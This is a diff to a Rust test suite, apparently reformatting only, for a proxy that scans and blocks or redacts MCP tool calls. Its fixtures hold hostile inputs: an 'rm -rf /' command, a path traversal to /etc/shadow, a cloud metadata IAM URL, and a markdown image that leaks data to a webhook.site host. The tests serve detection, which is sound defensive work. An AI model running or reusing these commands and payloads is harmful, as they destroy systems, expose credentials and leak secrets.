@@ -21,7 +21,11 @@ const CASES: &[(&str, &str, Option<&str>)] = &[
     ),
     ("destructive", r#"{"command":"rm -rf / --no-preserve-root"}"#, None),
     ("privesc", r#"{"path":"../../../../etc/shadow"}"#, None),
-    ("exfil", r#"{"url":"http://169.254.169.254/latest/meta-data/iam"}"#, Some("![x](https://abc123.webhook.site/p?d=secret)")),
+    (
+        "exfil",
+        r#"{"url":"http://169.254.169.254/latest/meta-data/iam"}"#,
+        Some("![x](https://abc123.webhook.site/p?d=secret)"),
+    ),
     ("bulk", r#"{"sql":"SELECT * FROM users"}"#, None),
 ];
 
@@ -71,7 +75,9 @@ fn requests_by_scanner_and_action() {
 fn answers_by_scanner_and_action_in_json_and_events() {
     for (scanner, _, text) in CASES {
         let Some(text) = text else { continue };
-        let body = format!(r#"{{"jsonrpc":"2.0","id":1,"result":{{"content":[{{"type":"text","text":"{text}"}}],"n":1.50}}}}"#);
+        let body = format!(
+            r#"{{"jsonrpc":"2.0","id":1,"result":{{"content":[{{"type":"text","text":"{text}"}}],"n":1.50}}}}"#
+        );
         for action in ACTIONS {
             for sse in [false, true] {
                 let response = || match sse {
@@ -87,7 +93,10 @@ fn answers_by_scanner_and_action_in_json_and_events() {
                 match action {
                     "log" => assert!(seen.contains(&body), "{place}"),
                     "redact" => {
-                        assert!(!seen.contains(text) && seen.contains("[REDACTED:") && seen.contains("\"n\":1.50"), "{place}: {seen}");
+                        assert!(
+                            !seen.contains(text) && seen.contains("[REDACTED:") && seen.contains("\"n\":1.50"),
+                            "{place}: {seen}"
+                        );
                         assert_eq!(record.redacted, ["/result/content/0/text"], "{place}");
                     }
                     _ => {
@@ -146,8 +155,10 @@ fn what_is_hidden_by_encoding_is_found_and_redacted_where_it_stands() {
     let wide: String = token.bytes().map(|b| char::from_u32(u32::from(b) + 0xfee0).unwrap()).collect();
     let spaced: String = token.chars().flat_map(|c| [c, '\u{200b}']).collect();
     for hidden in [percent, entities, escapes, hex, wide, spaced] {
-        let body = format!(r#"{{"jsonrpc":"2.0","id":1,"result":{{"content":[{{"type":"text","text":"a {hidden} z"}}]}}}}"#);
-        let outcome = run(&only("secrets", "redact"), "enforce", Request::post("/mcp", call("{}")), Response::json(body));
+        let body =
+            format!(r#"{{"jsonrpc":"2.0","id":1,"result":{{"content":[{{"type":"text","text":"a {hidden} z"}}]}}}}"#);
+        let outcome =
+            run(&only("secrets", "redact"), "enforce", Request::post("/mcp", call("{}")), Response::json(body));
         let seen = outcome.client.text();
         assert!(seen.contains("\"a [REDACTED:github-token]"), "{hidden}: {seen}");
         assert!(seen.ends_with(" z\"}]}}"), "{seen}");
@@ -161,7 +172,11 @@ fn bad_scanner_settings_are_refused_with_their_place() {
         (json!({"pii": {"request": "redacted"}}), "/scanners/pii/request", "`redact`"),
         (json!({"pii": {"response": {"hihg": "block"}}}), "/scanners/pii/response/hihg", "`high`"),
         (json!({"pii": {"disable_rules": ["ibann"]}}), "/scanners/pii/disable_rules/0", "`iban`"),
-        (json!({"overrides": [{"scanners": ["secret"], "action": "off"}]}), "/scanners/overrides/0/scanners/0", "`secrets`"),
+        (
+            json!({"overrides": [{"scanners": ["secret"], "action": "off"}]}),
+            "/scanners/overrides/0/scanners/0",
+            "`secrets`",
+        ),
         (json!({"overrides": [{"tool": [], "action": "off"}]}), "/scanners/overrides/0/tool", "empty list"),
         (json!({"suppress": [{"scanner": "pii"}]}), "/scanners/suppress/0", "`enabled`"),
         (json!({"suppress": [{"value_sha256": "ab"}]}), "/scanners/suppress/0/value_sha256", "64"),
@@ -180,7 +195,9 @@ fn bad_scanner_settings_are_refused_with_their_place() {
 #[test]
 fn overrides_and_suppressions_choose_by_what_they_name() {
     let arguments = r#"{"command":"rm -rf / --no-preserve-root"}"#;
-    let decided = |scanners: Value| run(&scanners, "enforce", Request::post("/mcp", call(arguments)), Response::json(RESULT)).records[0].decision;
+    let decided = |scanners: Value| {
+        run(&scanners, "enforce", Request::post("/mcp", call(arguments)), Response::json(RESULT)).records[0].decision
+    };
     assert_eq!(decided(json!({})), Decided::Deny);
     for (change, decision) in [
         (json!({"overrides": [{"tool": ["run_*"], "action": "log"}]}), Decided::Allow),
@@ -188,7 +205,10 @@ fn overrides_and_suppressions_choose_by_what_they_name() {
         (json!({"overrides": [{"scanners": ["destructive", "privesc"], "action": "off"}]}), Decided::Allow),
         (json!({"overrides": [{"direction": "response", "action": "log"}]}), Decided::Deny),
         (json!({"overrides": [{"principal": {"roles": ["admin"]}, "action": "log"}]}), Decided::Deny),
-        (json!({"overrides": [{"severity": "high", "action": "require_approval"}, {"action": "log"}]}), Decided::RequireApproval),
+        (
+            json!({"overrides": [{"severity": "high", "action": "require_approval"}, {"action": "log"}]}),
+            Decided::RequireApproval,
+        ),
         (json!({"suppress": [{"path": "/params/arguments/*"}]}), Decided::Allow),
         (json!({"suppress": [{"path": "/params/arguments/query"}]}), Decided::Deny),
     ] {
@@ -196,7 +216,12 @@ fn overrides_and_suppressions_choose_by_what_they_name() {
     }
 }
 
-fn shadow_changes_nothing(scanners: &Value, place: &str, request: impl Fn() -> Request, response: impl Fn() -> Response) {
+fn shadow_changes_nothing(
+    scanners: &Value,
+    place: &str,
+    request: impl Fn() -> Request,
+    response: impl Fn() -> Response,
+) {
     let outcome = run(scanners, "shadow", request(), response());
     assert!(!outcome.answered, "{place}");
     assert_eq!(outcome.upstream.as_ref().unwrap().body(), request().chunks.concat(), "{place}");
@@ -220,7 +245,8 @@ fn only(scanner: &str, action: &str) -> Value {
 }
 
 fn policy(scanners: &Value, mode: &str) -> String {
-    json!({"version": "1", "mode": mode, "default": "allow", "servers": [{"name": "s"}], "scanners": scanners}).to_string()
+    json!({"version": "1", "mode": mode, "default": "allow", "servers": [{"name": "s"}], "scanners": scanners})
+        .to_string()
 }
 
 fn run(scanners: &Value, mode: &str, request: Request, response: Response) -> Outcome {
@@ -229,7 +255,9 @@ fn run(scanners: &Value, mode: &str, request: Request, response: Response) -> Ou
 }
 
 fn call(arguments: &str) -> String {
-    format!(r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"run_command","arguments":{arguments}}}}}"#)
+    format!(
+        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"run_command","arguments":{arguments}}}}}"#
+    )
 }
 
 const RESULT: &str = r#"{"jsonrpc":"2.0","id":1,"result":{"content":[]}}"#;
